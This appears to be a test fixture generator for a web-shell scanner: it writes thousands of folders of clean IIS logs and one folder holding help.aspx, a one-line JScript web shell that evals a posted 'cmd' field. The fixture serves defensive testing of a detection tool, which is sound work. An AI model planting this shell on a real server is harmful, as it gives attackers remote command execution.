"""many_dirs.py DIR N: N folders, each holding one small clean IIS log, and a
last folder holding a web shell: scanned as `exhunt scan DIR/* DIR/*/*`, so
every folder is also given again by its file inside (telling which PATH is
inside which must not compare every pair: 2,000 folders took 48 s)."""
import os
import sys

out, n = sys.argv[1], int(sys.argv[2])
head = ("#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
        "#Date: 2021-03-01 00:00:00\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query "
        "s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus "
        "sc-win32-status time-taken\n")
for i in range(n):
    d = os.path.join(out, "d%06d" % i)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "u_ex210301.log"), "w") as f:
        f.write(head + "2021-03-01 00:00:00 10.10.0.25 GET /owa/ - 443 - 10.1.1.1 Mozilla/5.0 - 200 0 0 1\n")
d = os.path.join(out, "zz")
os.makedirs(d, exist_ok=True)
with open(os.path.join(d, "help.aspx"), "w") as f:
    f.write('<%@ Page Language="Jscript"%><%eval(Request.Form["cmd"],"unsafe");%>\n')
